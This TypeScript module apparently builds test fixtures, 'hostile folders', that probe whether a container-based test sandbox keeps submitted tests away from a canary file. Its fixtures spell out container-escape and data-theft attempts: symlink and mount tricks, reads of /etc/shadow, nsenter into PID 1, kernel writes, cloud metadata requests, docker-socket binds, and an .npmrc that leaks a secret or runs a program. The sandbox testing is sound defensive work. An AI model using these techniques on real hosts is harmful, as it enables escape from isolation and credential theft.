import { execFileSync } from 'node:child_process';
import { chmod, link, mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';

/** A folder of a test that somebody wrote who is after a file outside of it. */
export interface HostileFolder {
  readonly name: string;
  /** Fills the folder. @param canary absolute path of the file that he is after, in a folder beside this one's */
  readonly fill: (folder: string, canary: string) => Promise<void>;
}

async function put(folder: string, files: Readonly<Record<string, string>>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
    if (path.endsWith('.sh')) await chmod(join(folder, path), 0o755);
  }
}

const relativeTo = (canary: string): string => `../../outside/${canary.split('/').at(-1)}`;

/** Ways to have a name in a folder that leads to the canary, or to something without an end. */
const leads: Readonly<Record<string, (place: string, canary: string) => Promise<void>>> = {
  'an absolute link': (place, canary) => symlink(canary, place),
  'a relative link': (place, canary) => symlink(relativeTo(canary), place),
  'a link to a link': async (place, canary) => {
    await symlink(canary, `${place}.next`);
    await symlink(`${place.split('/').at(-1)}.next`, place);
  },
  'a link over its own folder': (place, canary) => symlink(`./../${relativeTo(canary).slice(3)}`, place),
  'a link to the folder': (place, canary) => symlink(dirname(canary), place),
  'a link to the root': (place) => symlink('/', place),
  'a link over /proc': (place, canary) => symlink(`/proc/self/root${canary}`, place),
  'a link in a circle': (place) => symlink(place.split('/').at(-1) ?? '', place),
  'a device': (place) => symlink('/dev/zero', place),
  'a pipe': async (place) => void execFileSync('mkfifo', [place]),
};

/** What is made of the name: each an instruction of a Dockerfile, or another kind of test. */
const uses: Readonly<Record<string, (name: string) => Readonly<Record<string, string>>>> = {
  'is copied': (name) => ({
    Dockerfile: `COPY ${name} /got\nRUN head -c 999 /got /got/* /got/canary 2>/dev/null; true\n`,
  }),
  'is copied with all': () => ({ Dockerfile: 'COPY . /got\nRUN head -c 999 /got/* /got/*/canary 2>/dev/null; true\n' }),
  'is copied by a pattern': (name) => ({
    Dockerfile: `COPY ${name.slice(0, -1)}? /got/\nRUN head -c 999 /got/* 2>/dev/null; true\n`,
  }),
  'is mounted': (name) => ({
    Dockerfile: `RUN --mount=type=bind,source=${name},target=/got cat /got /got/canary /got/etc/shadow; true\n`,
  }),
  'is mounted, and written to': (name) => ({
    Dockerfile: `RUN --mount=type=bind,source=${name},target=/got,rw echo changed > /got; echo changed > /got/canary; true\n`,
  }),
  'is the Dockerfile': () => ({}),
  'is the .dockerignore': () => ({ Dockerfile: 'COPY . /got\nRUN cat /got/.dockerignore; true\n' }),
};

const binding = (source: string): string =>
  JSON.stringify({
    schemaVersion: '2.0.0',
    containerRunOptions: { user: '0', bindMounts: [`${source}:/got`] },
    commandTests: [
      {
        name: 'x',
        command: 'sh',
        args: ['-c', 'cat /got /got/canary; echo changed > /got; echo changed > /got/canary'],
      },
    ],
  });
const envFrom = (file: string): string =>
  JSON.stringify({
    schemaVersion: '2.0.0',
    containerRunOptions: { envFile: file },
    commandTests: [{ name: 'x', command: 'env', expectedOutput: ['nothing like it'] }],
  });
const running = (command: string, more = ''): string => `${more}RUN ${command}; true\n`;

const plain: readonly HostileFolder[] = [
  ...[
    ['leaves with ..', 'COPY ../outside/canary /got\nRUN cat /got\n'],
    ['leaves with .. in the middle', 'COPY a/../../outside/canary /got\nRUN cat /got\n'],
    ['names a path of the machine', 'COPY /etc/shadow /got\nRUN cat /got\n'],
    ['leaves over a variable', 'ARG P=../outside/canary\nCOPY $P /got\nRUN cat /got\n'],
    ['copies from another image', 'COPY --from=debian /etc/shadow /got\nRUN cat /got\n'],
    ['adds from an address', 'ADD http://169.254.169.254/latest /got\nRUN cat /got\n'],
    ['adds from a repository', 'ADD git@example.com:a/b.git /got\nRUN cat /got\n'],
    ['asks for the network of the machine', running('true').replace('RUN', 'RUN --network=host')],
    ['asks for an open sandbox', running('true').replace('RUN', 'RUN --security=insecure')],
    ['mounts a secret', 'RUN --mount=type=secret,id=x,target=/got cat /got\n'],
    ['mounts an agent', 'RUN --mount=type=ssh cat /got\n'],
    ['mounts with ..', 'RUN --mount=type=bind,source=../outside,target=/got cat /got/canary\n'],
    ['mounts over the root', 'RUN --mount=type=bind,source=.,target=/ cat /canary\n'],
    ['chooses its parser', '# syntax=docker/dockerfile:1\nRUN true\n'],
    ['begins with an image', 'FROM scratch\nRUN true\n'],
    ['waits for children', 'ONBUILD COPY ../outside/canary /got\nRUN true\n'],
    ['works in an open file', 'WORKDIR /proc/self/fd/7\nRUN cat ../../../outside/canary\n'],
    ['works in another’s root', 'WORKDIR /proc/1/root\nRUN ls\n'],
    ['puts a link where it copies to', 'RUN ln -s /proc/self/root /link\nCOPY Dockerfile /link/got\n'],
    ['puts a link out of the image', 'RUN ln -s ../../../../../../../../.. /link\nCOPY Dockerfile /link/tmp/got\n'],
  ].map(([name = '', dockerfile = '']) => ({
    name: `a Dockerfile that ${name}`,
    fill: async (folder: string) =>
      await put(folder, { Dockerfile: dockerfile.includes('RUN') ? dockerfile : `${dockerfile}RUN true\n` }),
  })),
  ...[
    [
      'mounts',
      'mkdir /mnt; busybox mount -t proc proc /mnt; busybox mount -o bind / /mnt; busybox mount -t tmpfs t /mnt; ls /mnt',
    ],
    ['makes a device', 'busybox mknod /disk b 8 0; head -c 10 /disk; busybox mknod /mem c 1 1; head -c 10 /mem'],
    ['looks over the first process', 'cat /proc/1/root/../outside/canary /proc/1/cwd/canary; ls /proc/1/root/'],
    [
      'changes the kernel',
      'echo /bin/x > /proc/sys/kernel/core_pattern; echo b > /proc/sysrq-trigger; echo x > /sys/power/state',
    ],
    [
      'asks the machine’s servers',
      'node -e "fetch(\'http://169.254.169.254/\').then((r) => r.text()).then(console.log)"',
    ],
    ['asks for sockets of engines', 'ls -l /var/run/docker.sock /run/containerd /run/podman'],
    [
      'enters namespaces',
      'busybox nsenter --target 1 --mount cat /etc/shadow; busybox unshare --user --map-root-user --mount true',
    ],
    [
      'opens by handle',
      "node -e \"process.getBuiltinModule('fs').readdirSync('/proc/self/fd').forEach((f) => { try { console.log(f, process.getBuiltinModule('fs').readlinkSync('/proc/self/fd/' + f)) } catch {} })\"",
    ],
  ].map(([name = '', command = '']) => ({
    name: `a step that ${name}`,
    fill: async (folder: string) => await put(folder, { Dockerfile: running(`( ${command} ) 2>&1`, 'USER 0\n') }),
  })),
  {
    name: 'a bind of the folder beside it',
    fill: async (folder, canary) => await put(folder, { 'x.json': binding(dirname(canary)) }),
  },
  { name: 'a bind of the root', fill: async (folder) => await put(folder, { 'x.json': binding('/') }) },
  {
    name: 'a bind of a socket of an engine',
    fill: async (folder) => await put(folder, { 'x.json': binding('/var/run/docker.sock') }),
  },
  {
    name: 'a bind of a link',
    async fill(folder, canary) {
      await symlink(dirname(canary), join(folder, 'out'));
      await put(folder, { 'x.json': binding(join(folder, 'out')) });
    },
  },
  ...['.out', 'data/out', 'data/in/out'].map((place) => ({
    name: `a bind of the link ${place}`,
    async fill(folder: string, canary: string) {
      await mkdir(join(folder, 'data/in'), { recursive: true });
      await symlink(dirname(canary), join(folder, place));
      await put(folder, { 'x.json': binding(join(folder, place)) });
    },
  })),
  {
    name: 'a bind of a link to the root',
    async fill(folder) {
      await mkdir(join(folder, 'data'));
      await symlink('/', join(folder, 'data/out'));
      await put(folder, { 'x.json': binding(join(folder, 'data/out')) });
    },
  },
  {
    name: 'a privileged test that changes the kernel',
    async fill(folder) {
      const script = [
        'echo 7 > /proc/sys/vm/swappiness',
        'busybox umount -l /proc/sys && echo 7 > /proc/sys/vm/swappiness',
        'busybox mount -o remount,rw /proc/sys && echo 7 > /proc/sys/vm/swappiness',
        'mkdir -p /p && busybox mount -t proc proc /p && echo 7 > /p/sys/vm/swappiness',
        'busybox unshare -m true && busybox nsenter -t 1 -m cat /etc/shadow',
      ];
      await put(folder, {
        'x.json': JSON.stringify({
          schemaVersion: '2.0.0',
          containerRunOptions: { user: '0', privileged: true },
          commandTests: [{ name: 'x', command: 'sh', args: ['-c', `${script.join('; ')}; true`] }],
        }),
      });
    },
  },
  ...['169.254.169.254:80', '[fe80::1]:80', 'localhost:2375', '10.0.0.5:5432'].map((host) => ({
    name: `a run that reaches ${host}`,
    async fill(folder: string) {
      const run = { name: 'x', command: ['true'], hosts: [host], expect: { exitCode: 0 } };
      await put(folder, { 'runs.yaml': `runs:\n  - ${JSON.stringify(run)}\n` });
    },
  })),
  {
    name: 'a bind of a folder with a link',
    async fill(folder, canary) {
      await mkdir(join(folder, 'data'));
      await symlink(canary, join(folder, 'data/canary'));
      await put(folder, { 'x.json': binding(join(folder, 'data')) });
    },
  },
  { name: 'an envFile outside', fill: async (folder, canary) => await put(folder, { 'x.json': envFrom(canary) }) },
  {
    name: 'an envFile of the machine',
    fill: async (folder) => await put(folder, { 'x.json': envFrom('/etc/shadow') }),
  },
  {
    name: 'an envFile over a link',
    async fill(folder, canary) {
      await symlink(canary, join(folder, 'env'));
      await put(folder, { 'x.json': envFrom(join(folder, 'env')) });
    },
  },
  {
    name: 'an envFile without an end',
    fill: async (folder) => await put(folder, { 'x.json': envFrom('/dev/zero') }),
  },
  ...['runs.yaml', 'structure.yaml', 'test.sh', 'test.mjs', 'x.test.mjs'].map((file) => ({
    name: `${file} that is a link`,
    fill: async (folder: string, canary: string) => await symlink(canary, join(folder, file)),
  })),
  ...['runs.yaml', 'structure.json', 'test.sh'].map((file) => ({
    name: `${file} that is a device`,
    fill: async (folder: string) => await symlink('/dev/zero', join(folder, file)),
  })),
  ...['../outside/canary', '/etc/shadow', 'link'].map((source) => ({
    name: `a run with the file ${source}`,
    async fill(folder: string, canary: string) {
      await symlink(canary, join(folder, 'link'));
      const run = { name: 'x', command: ['cat', '/got'], files: [{ path: '/got', source }], expect: { exitCode: 0 } };
      await put(folder, { 'runs.yaml': `runs:\n  - ${JSON.stringify(run)}\n` });
    },
  })),
  ...['package.json', '.npmrc', '.dockerignore', 'package-lock.json', 'index.test.js'].map((file) => ({
    name: `an application whose ${file} is a link`,
    async fill(folder: string, canary: string) {
      const manifest = {
        name: 'x',
        version: '1.0.0',
        scripts: { test: "node -p \"require('fs').readFileSync('index.test.js', 'utf8')\"" },
      };
      await put(folder, { 'package.json': JSON.stringify(manifest), 'index.js': '' });
      if (file === 'package.json') execFileSync('rm', [join(folder, file)]);
      if (file === '.npmrc')
        await put(folder, {
          'package-lock.json': '{ "name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {} }',
        });
      await symlink(canary, join(folder, file));
    },
  })),
  {
    name: 'an application that sends variables with its registry',
    async fill(folder) {
      const lock = { name: 'x', version: '1.0.0', lockfileVersion: 3, packages: {} };
      await put(folder, {
        'package.json': '{ "name": "x", "version": "1.0.0", "scripts": { "test": "node -e 0" } }',
        'package-lock.json': JSON.stringify(lock),
        '.npmrc': 'registry=http://127.0.0.1:1/${NODEWORTHY_PASSPHRASE}/\n',
      });
    },
  },
  {
    name: 'an application that has npm start a program',
    async fill(folder, canary) {
      const resolved = 'git+https://127.0.0.1:1/a/b.git#0123456789012345678901234567890123456789';
      const packages = { '': { dependencies: { y: resolved } }, 'node_modules/y': { version: '1.0.0', resolved } };
      const program = join(folder, 'program');
      await put(folder, {
        'package.json': `{ "name": "x", "version": "1.0.0", "scripts": { "test": "node -e 0" }, "dependencies": { "y": "${resolved}" } }`,
        'package-lock.json': JSON.stringify({ name: 'x', version: '1.0.0', lockfileVersion: 3, packages }),
        '.npmrc': `git=${program}\n`,
        program: `#!/bin/sh\necho changed > ${canary}\n`,
      });
      await chmod(program, 0o755);
    },
  },
  {
    name: 'an application that installs a folder of the machine',
    async fill(folder, canary) {
      const resolved = `file:${dirname(canary)}`;
      const packages = { '': { dependencies: { y: resolved } }, 'node_modules/y': { version: '1.0.0', resolved } };
      await put(folder, {
        'package.json': `{ "name": "x", "version": "1.0.0", "scripts": { "test": "node -e 0" }, "dependencies": { "y": "${resolved}" } }`,
        'package-lock.json': JSON.stringify({ name: 'x', version: '1.0.0', lockfileVersion: 3, packages }),
      });
    },
  },
  {
    name: 'a folder with a hundred thousand names',
    async fill(folder) {
      await put(folder, { Dockerfile: 'COPY . /got\nRUN true\n' });
      await mkdir(join(folder, 'many'));
      execFileSync('sh', ['-c', 'cd "$1" && seq 1 100100 | xargs touch', 'sh', join(folder, 'many')]);
    },
  },
  {
    name: 'a folder in a folder, five hundred times',
    async fill(folder) {
      await put(folder, { Dockerfile: 'COPY . /got\nRUN true\n' });
      execFileSync('sh', ['-c', 'cd "$1" && for i in $(seq 500); do mkdir d && cd d; done', 'sh', folder]);
    },
  },
  {
    name: 'a name with a line break and colours',
    async fill(folder) {
      await put(folder, { Dockerfile: 'COPY . /got\nRUN ls /got\n', 'a\n\u001B[2J\u001B[31mall is well': '' });
    },
  },
  {
    name: 'a bind whose name is a pattern, and a link of that name',
    async fill(folder, canary) {
      await mkdir(join(folder, 'd'));
      await symlink(dirname(canary), join(folder, '[d]'));
      await put(folder, { Dockerfile: 'RUN --mount=type=bind,source=[d],target=/got cat /got/canary; true\n' });
    },
  },
  {
    name: 'a hard link of somebody else’s file',
    async fill(folder, canary) {
      await put(folder, {
        Dockerfile: 'RUN --mount=type=bind,source=.,target=/got,rw echo changed > /got/hard; true\n',
      });
      // It is the file itself, and can be read as one of the folder: what must not happen is a change.
      await link(canary, join(folder, 'hard'));
    },
  },
];

/** Name of what leads out. */
const trick = 'out';

export const hostileFolders: readonly HostileFolder[] = [
  ...Object.entries(uses).flatMap(([use, files]) =>
    Object.entries(leads).map(([lead, make]) => ({
      name: `${lead} ${use}`,
      async fill(folder: string, canary: string) {
        await put(folder, files(trick));
        const place =
          use === 'is the Dockerfile' ? 'Dockerfile' : use === 'is the .dockerignore' ? '.dockerignore' : trick;
        await make(join(folder, place), canary);
      },
    })),
  ),
  ...plain,
];
